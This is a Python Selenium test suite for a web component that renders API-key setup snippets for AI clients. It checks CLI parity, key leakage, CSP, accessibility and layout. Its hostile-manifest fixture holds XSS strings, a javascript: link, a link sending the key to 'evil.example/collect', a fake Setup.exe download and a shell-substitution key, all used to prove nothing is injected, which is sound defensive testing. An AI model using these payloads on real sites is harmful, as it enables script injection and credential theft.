"""The <mcp-setup-connect> card in a real browser, in the key-page example (examples/key-dialog)
and on a page that embeds a hostile manifest: every artifact equals `mcp-setup render --token`
for hostile keys, the key goes nowhere, the strict CSP holds, nothing is injected, axe finds no
serious violation in light and dark, the keyboard reaches every button."""
import functools
import gzip
import http.server
import json
import pathlib
import shutil
import tempfile
import threading

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait
from selenium.webdriver.common.keys import Keys

from test_keybox import HOSTILE_KEYS, random_keys, refusal_reason, request_urls

REPO = pathlib.Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "examples" / "key-dialog"
STRICT_CSP = ("default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'none'; "
              "base-uri 'none'; form-action 'none'")


class CSPHandler(http.server.SimpleHTTPRequestHandler):
    """Serves files with the page's CSP as a header too (connect-src 'self' only where the page
    loads its manifest by URL)."""

    def end_headers(self):
        policy = STRICT_CSP.replace("connect-src 'none'", "connect-src 'self'") if self.path.startswith("/index.html") or self.path == "/" else STRICT_CSP
        self.send_header("Content-Security-Policy", policy)
        super().end_headers()

    def log_message(self, *args):
        pass


HOSTILE_TEXT = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'


def hostile_manifest(manifest):
    """The manifest with hostile titles, notes, paths, instructions, and a javascript: link."""
    manifest = json.loads(json.dumps(manifest))
    manifest["server"]["title"] = HOSTILE_TEXT
    for client in manifest["clients"]:
        client["title"] = HOSTILE_TEXT + client["title"]
        client["instructions"] = "**" + HOSTILE_TEXT + "** `" + HOSTILE_TEXT + "`"
        for artifact in client["artifacts"]:
            artifact["title"] = HOSTILE_TEXT
            artifact["notes"] = [HOSTILE_TEXT]
            for path in artifact.get("paths", []):
                path["path"] = HOSTILE_TEXT
            if artifact["kind"] == "link" and artifact["available"]:
                # A script link, and an https link that would send the key to another site.
                target = "javascript:alert(document.domain)//" if len(artifact["id"]) % 2 else "https://evil.example/collect?k="
                if artifact.get("program"):
                    artifact["program"] = {"checks": [], "text": [target, {"key": True}]}
                artifact["content"] = target + manifest["placeholder"]
            if artifact["kind"] == "file":
                artifact["download"] = {"name": "Setup.exe", "href": "data:application/zip;base64,AAAA"}
    return manifest


@pytest.fixture(scope="session")
def card_site(cli):
    folder = pathlib.Path(tempfile.mkdtemp(prefix="mcp-setup-card-"))
    shutil.copytree(EXAMPLE, folder, dirs_exist_ok=True)
    cli("card", "--out", str(folder / "connect"))
    manifest = json.loads((folder / "connect" / "manifest.json").read_text())
    # A page that embeds a hostile manifest, under connect-src 'none'.
    embedded = json.dumps(hostile_manifest(manifest)).replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    (folder / "hostile.html").write_text(
        "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Hostile manifest</title>"
        f"<meta http-equiv=\"Content-Security-Policy\" content=\"{STRICT_CSP}\">"
        "<script type=\"module\" src=\"connect/mcp-setup-connect.js\"></script></head><body><main><h1>Hostile</h1>"
        f"<script type=\"application/json\" id=\"manifest\">{embedded}</script>"
        "<mcp-setup-connect id=\"card\" manifest-id=\"manifest\"></mcp-setup-connect></main></body></html>")
    handler = functools.partial(CSPHandler, directory=str(folder))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield {"url": f"http://127.0.0.1:{server.server_address[1]}/", "folder": folder, "manifest": manifest}
    server.shutdown()
    shutil.rmtree(folder, ignore_errors=True)


def wait_for_card(driver, selector="#card"):
    for _ in range(100):
        if driver.execute_script("const c = document.querySelector(arguments[0]); return !!(c && c.shadowRoot && c.shadowRoot.querySelector('select'));", selector):
            return
        driver.execute_script("return new Promise(r => setTimeout(r, 50));")
    raise AssertionError("the card did not render")


def csp_violations(driver):
    return [entry["message"] for entry in driver.get_log("browser") if "Content Security Policy" in entry["message"] or "Refused to" in entry["message"]]


# Every artifact of every client, as the card shows it, for one key: the card is asked to show
# each client in turn (as a reader choosing it in the picker) with its other ways opened.
SHOWN_ARTIFACTS = """
const card = document.querySelector(arguments[0]);
card.key = arguments[1];
const root = card.shadowRoot, out = {codes: {}, refused: {}, links: {}};
const collect = () => root.querySelectorAll('[data-artifact]').forEach(section => {
  const id = section.getAttribute('data-artifact');
  if (section.tagName === 'CODE') { out.codes[id] = section.textContent; return; }
  const refusal = section.querySelector('.refusal');
  if (refusal) out.refused[id] = refusal.textContent;
  if (section.querySelector('button.install')) out.links[id] = true;
});
const chooseShell = shell => {
  const radio = root.querySelector('input[data-shell="' + shell + '"]');
  if (radio) { radio.checked = true; radio.dispatchEvent(new Event('change')); }
};
for (const option of Array.from(root.querySelectorAll('option'))) {
  const select = root.querySelector('select');
  select.value = option.value;
  select.dispatchEvent(new Event('change'));
  // Each shell of the shell switch in turn (the choice re-renders the card).
  for (const shell of ['powershell', 'cmd', 'posix']) {
    chooseShell(shell);
    const details = root.querySelector('details');
    if (details) details.open = true;
    collect();
  }
  const details = root.querySelector('details');
  if (details) details.open = false;
}
return out;
"""


_code = {}


def expected_for(cli, key):
    """What the CLI renders for the key; code (Python, TypeScript, curl) as it renders without
    one: a card reads the key from the environment in code, whatever it is given, so no key is
    ever written into source (the CLI writes it in only when asked with --token)."""
    if not _code:
        placeholder = json.loads(cli("render", "--format", "json", "--placeholder"))
        _code.update({a["id"]: a for c in placeholder["clients"] for a in c["artifacts"] if a["kind"] == "code"})
    manifest = json.loads(cli("render", "--format", "json", "--token-stdin", stdin=key + "\n"))
    return {a["id"]: _code.get(a["id"], a) for c in manifest["clients"] for a in c["artifacts"]}


def test_card_fills_every_artifact_like_the_cli(driver, card_site, cli):
    driver.get(card_site["url"] + "index.html")
    wait_for_card(driver)
    initial = request_urls(driver)
    assert initial and all(url.startswith(card_site["url"]) for url in initial)
    keys = HOSTILE_KEYS + random_keys(25)
    assert len(keys) >= 50
    compared = refused = 0
    fill_times = []
    for key in keys:
        start = driver.execute_script("return performance.now()")
        shown = driver.execute_script(SHOWN_ARTIFACTS, "#card", key)
        fill_times.append(driver.execute_script("return performance.now()") - start)
        expected = expected_for(cli, key)
        for artifact_id, text in shown["codes"].items():
            assert expected[artifact_id]["available"], f"{artifact_id} shown for {key[:40]!r}, the CLI refuses it"
            assert text == expected[artifact_id]["content"], f"{artifact_id} differs for {key[:40]!r}"
            compared += 1
        for artifact_id, text in shown["refused"].items():
            assert not expected[artifact_id]["available"]
            assert refusal_reason(text) == expected[artifact_id]["reason"], f"{artifact_id} for {key[:40]!r}"
            refused += 1
        # Every available link artifact has its install button (it opens the shown content).
        for artifact_id in shown["links"]:
            assert expected[artifact_id]["kind"] == "link" and expected[artifact_id]["available"]
        # Every artifact the CLI makes for this key appears, as text or as a refusal.
        for artifact_id, artifact in expected.items():
            if artifact["available"]:
                assert artifact_id in shown["codes"], f"{artifact_id} missing for {key[:40]!r}"
    assert compared > 2000 and refused > 50
    print(f"\nconnect card: {len(keys)} keys, {compared} artifacts and {refused} refusals matched the CLI; "
          f"all 33 clients shown per key in a median {sorted(fill_times)[len(fill_times) // 2]:.1f} ms")
    # The key went nowhere: no request, no storage, no attribute, no URL; checked with a client
    # whose install buttons open links that hold the key.
    assert request_urls(driver) == []
    leaks = driver.execute_script("""
        const key = arguments[0];
        const card = document.getElementById('card');
        card.key = key;
        const select = card.shadowRoot.querySelector('select');
        select.value = 'cursor';
        select.dispatchEvent(new Event('change'));
        card.shadowRoot.querySelector('details').open = true;
        if (!card.shadowRoot.querySelector('button.install')) return ['no install button to check'];
        const found = [];
        // Only the reader's shell and OS choice is kept (for the visit), never the key.
        if (localStorage.length || document.cookie) found.push('storage');
        for (let i = 0; i < sessionStorage.length; i++) {
          const name = sessionStorage.key(i);
          if (!['mcp-setup-shell', 'mcp-setup-os'].includes(name) || sessionStorage.getItem(name).includes(key)) found.push('session ' + name);
        }
        if (location.href.includes(key)) found.push('url');
        const scan = root => root.querySelectorAll('*').forEach(el => {
          for (const a of el.attributes) if (a.value.includes(key)) found.push(el.tagName + ' ' + a.name);
          if (el.shadowRoot) scan(el.shadowRoot);
        });
        scan(document);
        performance.getEntries().forEach(e => { if (e.name.includes(key)) found.push('performance ' + e.name); });
        return found;""", "sk_live_LEAKCHECK_0123456789abcdef")
    assert leaks == []
    assert csp_violations(driver) == []


def test_key_dialog_reveals_once_and_leaves_the_masked_key(driver, card_site, cli):
    driver.get(card_site["url"] + "index.html")
    wait_for_card(driver)
    wait_for_card(driver, "#dialog-card")
    request_urls(driver)  # what loading the page asked for
    driver.find_element(By.ID, "create").click()
    key = driver.find_element(By.ID, "new-key").text
    prefix = card_site["manifest"]["server"].get("keyPrefix", "")
    assert key.startswith(prefix) and len(key) > len(prefix) + 20
    shown = driver.execute_script("const c = document.getElementById('dialog-card'); return Array.from(c.shadowRoot.querySelectorAll('code[data-artifact]')).map(c => [c.dataset.artifact, c.textContent]);")
    expected = expected_for(cli, key)
    assert shown and all(text == expected[artifact_id]["content"] for artifact_id, text in shown)
    status = driver.execute_script("return document.getElementById('dialog-card').shadowRoot.querySelector('[part=status]').textContent")
    # The shape of mcp-setup.yml's keys.masked_preview (the example's sk_live_…J6Hm): the
    # key page's list and the card show the key the same way.
    shape = card_site["manifest"]["server"]["keyPreview"]
    assert shape == {"start": 8, "end": 4, "mask": "\u2026"}
    masked = key[:shape["start"]] + shape["mask"] + key[-shape["end"]:]
    assert masked in status and key not in status
    # Copy and install clicks are events with the artifact id, never the key.
    driver.execute_script("document.getElementById('dialog-card').shadowRoot.querySelector('button.copy').click()")
    assert driver.execute_script("return document.body.dataset.lastCopy") == shown[0][0]
    driver.find_element(By.ID, "close").click()
    # Closed: the key is gone from the page; the list shows it masked. The dialog's close event
    # comes as a task after the click, so the list is waited for.
    WebDriverWait(driver, 30, poll_frequency=0.05).until(lambda d: d.find_elements(By.CSS_SELECTOR, "#keys td.masked"))
    html = driver.execute_script("""
        let text = document.documentElement.outerHTML;
        document.querySelectorAll('mcp-setup-connect').forEach(c => { text += c.shadowRoot.innerHTML; });
        return text;""")
    assert key not in html
    assert driver.find_element(By.CSS_SELECTOR, "#keys td.masked").text == masked
    # A pasted key fills the page's card, as a paste does (one input event).
    driver.execute_script("const i = document.getElementById('paste-key'); i.value = arguments[0]; i.dispatchEvent(new Event('input', {bubbles: true}));", "sk_live_'$(pasted)%")
    pasted = driver.execute_script("const c = document.getElementById('card'); return Array.from(c.shadowRoot.querySelectorAll('code[data-artifact]')).map(c => [c.dataset.artifact, c.textContent]);")
    expected = expected_for(cli, "sk_live_'$(pasted)%")
    assert pasted and all(text == expected[artifact_id]["content"] for artifact_id, text in pasted)
    assert request_urls(driver) == [] and csp_violations(driver) == []


def test_hostile_manifest_injects_nothing(driver, card_site):
    driver.get(card_site["url"] + "hostile.html")
    wait_for_card(driver)
    result = driver.execute_script("""
        const card = document.getElementById('card');
        card.key = 'sk_live_hostile123456789';
        const root = card.shadowRoot, out = {images: 0, scripts: 0, links: [], installs: 0, downloads: 0, texts: 0};
        for (const option of Array.from(root.querySelectorAll('option'))) {
          const select = root.querySelector('select');
          select.value = option.value;
          select.dispatchEvent(new Event('change'));
          const details = root.querySelector('details'); if (details) details.open = true;
          out.images += root.querySelectorAll('img').length + document.querySelectorAll('img').length;
          out.scripts += root.querySelectorAll('script').length;
          root.querySelectorAll('a').forEach(a => out.links.push(a.getAttribute('href')));
          out.installs += root.querySelectorAll('button.install').length;
          out.downloads += root.querySelectorAll('a[download]').length;
          out.texts += root.textContent.split(arguments[0]).length - 1;
        }
        return out;""", HOSTILE_TEXT)
    assert result["images"] == 0 and result["scripts"] == 0
    # No link, no install button for a script or a foreign https link, no download of an .exe.
    assert (result["links"], result["installs"], result["downloads"]) == ([], 0, 0), result
    assert result["texts"] > 30, "the hostile text should show as text"
    # No script ran: no alert is open (an injected one would be), and nothing asked another host.
    from selenium.common.exceptions import NoAlertPresentException
    with pytest.raises(NoAlertPresentException):
        driver.switch_to.alert.text
    assert csp_violations(driver) == []
    requests = request_urls(driver)
    assert requests and all(url.startswith(card_site["url"]) for url in requests), requests


def set_color_scheme(driver, scheme):
    driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": scheme}]})


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_serious_violations(driver, card_site, scheme):
    from axe_selenium_python import Axe

    set_color_scheme(driver, scheme)
    driver.get(card_site["url"] + "index.html")
    wait_for_card(driver)
    driver.execute_script("document.getElementById('card').key = 'sk_live_axe0123456789abcdef'; document.getElementById('card').shadowRoot.querySelector('details').open = true;")
    axe = Axe(driver)
    axe.inject()
    results = axe.run()
    serious = [v for v in results["violations"] if v["impact"] in ("serious", "critical")]
    print(f"\naxe ({scheme}): {len(results['violations'])} violations, {len(serious)} serious or critical; {len(results['passes'])} rules passed")
    assert serious == [], json.dumps([(v["id"], v["help"], [n["target"] for n in v["nodes"]][:3]) for v in serious], indent=1)


def test_keyboard_reaches_every_copy_and_install_button(driver, card_site):
    driver.get(card_site["url"] + "index.html")
    wait_for_card(driver)
    driver.execute_script("const c = document.getElementById('card'); c.key = 'sk_live_keyboard0123456789'; const s = c.shadowRoot.querySelector('select'); s.value = 'cursor'; s.dispatchEvent(new Event('change'));")
    wanted = set(driver.execute_script("return Array.from(document.getElementById('card').shadowRoot.querySelectorAll('button.copy, a.install')).map(b => b.dataset.focus)"))
    assert wanted
    driver.execute_script("document.getElementById('paste-key').focus()")
    reached = set()
    body = driver.find_element(By.TAG_NAME, "body")
    for _ in range(80):
        body.send_keys(Keys.TAB)
        focus = driver.execute_script("const c = document.getElementById('card'); return document.activeElement === c && c.shadowRoot.activeElement ? c.shadowRoot.activeElement.dataset.focus || c.shadowRoot.activeElement.tagName : null")
        if focus == "more":
            # The other ways open from the keyboard.
            driver.switch_to.active_element.send_keys(Keys.ENTER)
            wanted = set(driver.execute_script("return Array.from(document.getElementById('card').shadowRoot.querySelectorAll('button.copy, a.install')).map(b => b.dataset.focus)"))
        if focus:
            reached.add(focus)
    assert wanted <= reached, sorted(wanted - reached)


@pytest.mark.parametrize("width,scheme", [(1280, "light"), (1280, "dark"), (390, "light"), (390, "dark"), (360, "light")])
def test_screenshots(driver, card_site, screenshots, width, scheme):
    driver.set_window_size(width, 1400)
    set_color_scheme(driver, scheme)
    driver.get(card_site["url"] + "index.html")
    wait_for_card(driver)
    driver.find_element(By.ID, "create").click()
    path = screenshots / f"connect-card-dialog-{width}-{scheme}.png"
    driver.save_screenshot(str(path))
    overflow = driver.execute_script("return document.documentElement.scrollWidth > window.innerWidth + 1")
    assert not overflow, f"the page scrolls sideways at {width} px"
    print(f"\nscreenshot: {path}")


def test_module_size(card_site):
    module = (card_site["folder"] / "connect" / "mcp-setup-connect.js").read_bytes()
    style = (card_site["folder"] / "connect" / "mcp-setup-connect.css").read_bytes()
    zipped = len(gzip.compress(module, 9))
    print(f"\nconnect card: module {len(module)} bytes, {zipped} gzipped; stylesheet {len(style)} bytes, {len(gzip.compress(style, 9))} gzipped")
    assert zipped <= 25 * 1024


def test_shell_switch_changes_every_command_on_the_page(driver, card_site):
    driver.get(card_site["url"] + "index.html")
    wait_for_card(driver)
    wait_for_card(driver, "#dialog-card")
    result = driver.execute_script("""
        const cards = ['card', 'dialog-card'].map(id => document.getElementById(id));
        for (const card of cards) {
          const select = card.shadowRoot.querySelector('select');
          select.value = 'claude-code';
          select.dispatchEvent(new Event('change'));
          card.shadowRoot.querySelector('details').open = true;
        }
        const radio = cards[0].shadowRoot.querySelector('input[data-shell="powershell"]');
        radio.checked = true;
        radio.dispatchEvent(new Event('change'));
        return cards.map(card => Array.from(card.shadowRoot.querySelectorAll('.shells')).map(group =>
          group.parentNode.getAttribute('data-artifact') + ' ' + group.querySelector('input:checked').value));""")
    commands = [entry for card in result for entry in card]
    assert commands, "no command has a shell switch"
    # Every command on the page, in both cards, now shows its PowerShell form.
    assert all(entry.endswith("-powershell powershell") for entry in commands), commands
